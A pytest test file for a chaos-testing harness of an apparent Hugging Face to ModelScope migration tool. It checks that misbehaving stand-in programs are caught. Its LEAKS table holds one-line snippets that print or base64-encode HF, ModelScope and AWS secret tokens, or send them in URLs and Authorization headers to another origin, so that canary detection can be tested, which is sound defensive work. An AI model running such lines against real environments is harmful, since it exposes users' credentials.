"""A short campaign of scripts/chaos, and proof that its checks can fail: programs that do wrong are found out."""

import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from programs import ROOT, WORKER
from servers.sandbox import Sandbox

sys.path.insert(0, str(ROOT / "scripts"))

from campaign import checks, draw, faults  # noqa: E402
from campaign.rounds import Attempt, Site  # noqa: E402
from campaign.table import CONTAINERS, LOCAL, Tally, ranges  # noqa: E402

FILES = {"README.md": b"# one\n", "w.safetensors": bytes(range(256)) * 40}
# What a program does that copies as it should; ACT is what a test has it do besides. `post` writes behind the hubs' backs.
PROGRAM = """#!{python}
import base64, json, os, pathlib, subprocess, sys, urllib.request
def post(path, **body):
    urllib.request.urlopen(urllib.request.Request("{admin}" + path, data=json.dumps(body).encode(), method="POST"))
def write(files, delete=(), private=False):
    told = [dict(path=path, base64=base64.b64encode(text).decode()) for path, text in files.items()]
    post("/seed", hub="ms", kind="model", id="alice/r1-copy", message="Copy", files=told, delete=list(delete), private=private)
files, act = {files!r}, {act!r}
exec(act)
"""
COPIES = "write(files)"
LIES = {
    "wrong bytes": "files['w.safetensors'] = b'!' + files['w.safetensors'][1:]; write(files)",
    "lost files": "del files['w.safetensors']; write(files)",
    "deletions": "write(files, delete=['extra.txt'])",
    "overwritten": "write({'README.md': b'of a stranger'}); write(files); print(json.dumps(dict(event='file', path='README.md')))",
    "half shown": "del files['w.safetensors']; write(files); sys.exit(1)",
    "left behind": f"{COPIES}; subprocess.Popen(['sleep', '60'])",
    "unfinished": "sys.exit(1)",
}
LEAKS = {
    "in its output": "print(os.environ['MODELSCOPE_TOKEN'])",
    "inside base64": "print(base64.b64encode(b'oauth2:' + os.environ['HF_TOKEN'].encode()).decode())",
    "in its state": "pathlib.Path(os.environ['HF2MS_STATE']).mkdir(); pathlib.Path(os.environ['HF2MS_STATE'], 'run.json').write_text(os.environ['HF_TOKEN'])",
    "in a command line": "subprocess.run(['sh', '-c', 'sleep 0.2 # ' + os.environ['HF_TOKEN']])",
    "in an address": "urllib.request.urlopen(os.environ['MODELSCOPE_ENDPOINT'] + '/api/v1/models/alice/r1-copy?token=' + os.environ['MODELSCOPE_TOKEN'])",
    "to another hub": "urllib.request.urlopen(urllib.request.Request(os.environ['MODELSCOPE_ENDPOINT'] + '/api/v1/models/alice/r1-copy', headers={'X': os.environ['HF_TOKEN']}))",
    "to another origin": "urllib.request.urlopen(urllib.request.Request({trap!r}, headers=dict(Authorization='Bearer ' + os.environ['HF_TOKEN'])))",
    "that nothing needs": "print(os.environ['AWS_SECRET_ACCESS_KEY'])",
}


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    folder = tmp_path_factory.mktemp("chaos")
    with Sandbox(folder / "blobs") as sandbox:
        site = Site(sandbox, folder, {"hf2ms": str(folder / "hf2ms"), "worker": str(WORKER)}, None)
        yield site
        site.close()


@pytest.fixture
def carried_out(site, tmp_path, monkeypatch):
    """One round with a program of our own in the place of hf2ms."""

    def carry_out(act, private=False, options=(), before=None):
        monkeypatch.setattr("campaign.program.GRACE", 0.2)
        program = site.folder / "hf2ms"
        text = PROGRAM.format(python=sys.executable, admin=site.sandbox.admin, files=FILES, act=act)
        program.write_text(text)
        program.chmod(0o755)
        copy = draw.Copy("alice/r1", "alice/r1-copy", FILES, before, private)
        round = draw.Round(1, "migrate", "local", "model", "hf", "ms", list(options), [copy], {}, [], None, None)
        return Attempt(site, round, Path(tempfile.mkdtemp(dir=tmp_path)) / "round").carry_out()

    return carry_out


def kinds(result):
    return {problem.kind for problem in result.problems}


def test_a_few_rounds_end_well():
    ran = subprocess.run([str(ROOT / "scripts/chaos"), "--rounds", "10", "--seed", "1", "--jobs", "2"], capture_output=True, text=True)
    assert ran.returncode == 0, ran.stdout + ran.stderr


def test_a_program_that_copies_is_not_blamed(carried_out):
    result = carried_out(COPIES, before={"extra.txt": b"extra"})
    assert (kinds(result), result.codes) == (set(), [0])


@pytest.mark.parametrize("kind", LIES)
def test_a_program_that_does_wrong_is_found_out(kind, carried_out, monkeypatch):
    if kind == "overwritten":
        stranger = checks.Stranger("README.md", checks.sha256(b"of a stranger"), 1, True, False)
        monkeypatch.setattr("campaign.copies.RepoCheck.notice_strangers", lambda self, rules, run: self.strangers.append(stranger) or 0)
    result = carried_out(LIES[kind], before=None if kind == "half shown" else {"extra.txt": b"extra"})
    assert kind in kinds(result), result.problems
    tally = Tally()
    tally.add(result)
    table = tally.markdown()
    assert f"| {kind} | {checks.KINDS[kind]} | 0 |" not in table and f"| {LOCAL} | 1 | {kind}: " in table


def test_the_sums_of_two_campaigns_make_one_table(carried_out, tmp_path):
    sums, result = tmp_path / "sums.json", carried_out(COPIES)
    for place in (LOCAL, CONTAINERS):
        tally = Tally.load(sums)
        tally.add(result, place)
        tally.save(sums)
    tally = Tally.load(sums)
    assert (tally.rounds, tally.kills) == (2, {"nobody": 2})
    table = tally.markdown()
    assert "2 rounds: 1 by scripts/chaos (workers in processes; seeds 1), 1 by scripts/chaos --docker (0 of them with workers in containers; seeds 1)." in table
    assert "| migrate | hf to ms | local | 2 |" in table
    assert ranges([3, 1, 2, 9, 7]) == "1 to 3, 7, 9"


def test_a_pointer_to_nothing_is_lost_whatever_the_exit_code(carried_out):
    lost = "write(files); post('/blob/remove', hub='ms', sha256={!r}); sys.exit(1)".format(checks.sha256(FILES["w.safetensors"]))
    assert "lost files" in kinds(carried_out(lost))


def test_prune_takes_neither_what_the_source_has_nor_more_than_half(carried_out):
    before = {f"extra-{n}.txt": b"extra" for n in range(4)} | {"README.md": b"older"}
    all_extras = f"write(files, delete={[path for path in before if path != 'README.md']!r})"
    assert "deletions" in kinds(carried_out(all_extras, options=["--prune"], before=before))
    assert kinds(carried_out(all_extras, options=["--prune", "--max-delete", "100%"], before=before)) == set()
    of_the_source = "del files['README.md']; write(files, delete=['README.md']); sys.exit(1)"
    assert "deletions" in kinds(carried_out(of_the_source, options=["--prune"], before=before))


def test_private_files_in_a_public_repo_are_shown(carried_out):
    assert "shown" in kinds(carried_out(COPIES, private=True))
    assert kinds(carried_out("write(files, private=True)", private=True)) == set()


@pytest.mark.parametrize("leak", LEAKS)
def test_a_token_is_found(leak, carried_out, site):
    act = LEAKS[leak].replace("{trap!r}", repr(site.trap.url))
    assert "canary tokens" in kinds(carried_out(f"{COPIES}; {act}"))


def test_every_kind_of_fault_of_the_sandbox_can_be_thrown(site):
    """A new kind is thrown without any field; where it needs some, faults.VALUES has to have them."""
    rng = draw.random.Random(1)
    assert len(site.known) > 25 and set(faults.VALUES) <= set(site.known)
    for kind in site.known:
        assert site.sandbox.post("/faults", **faults.drawn(rng, [kind], ["hf.none"], site.trap.url, "model"))["id"]
    site.sandbox.ask("DELETE", "/faults")


def test_a_seed_is_always_the_same_round(site):
    assert site.drawn(7) == site.drawn(7) != site.drawn(8)
